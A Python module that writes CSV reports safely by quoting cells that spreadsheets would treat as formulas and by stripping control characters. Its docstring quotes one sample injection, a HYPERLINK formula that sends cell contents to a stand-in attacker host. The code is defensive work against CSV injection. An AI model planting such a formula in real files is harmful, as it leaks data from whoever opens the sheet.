"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

Report cells carry values clients sent (content ids) and operators wrote (references), so
a cell such as ``=HYPERLINK("https://evil.example/?"&A1, "open")`` would run when the file
is opened. Text cells that start with ``= + - @`` (after any leading spaces), a tab or a
carriage return get a leading single quote, which spreadsheets take as "this is text" and
do not show; control characters (NUL and the rest of C0, DEL, C1) become spaces. Numbers
are written as they are. defusedcsv does the first part for ``= + - @ | %`` only, leaving
tab, CR and NUL, hence these few lines.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def safe_cell(value: object) -> object:
    """``value`` as a cell that holds no formula and no control character."""
    if value is None or isinstance(value, int | float):  # bool is an int
        return value
    text = str(value)
    formula = text.startswith(FORMULA_PREFIXES) or text.lstrip(" ").startswith(FORMULA_PREFIXES[:4])
    text = _CONTROL.sub(" ", text)
    return f"'{text}" if formula else text


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """The rows as CSV (RFC 4180 quoting), every cell through :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
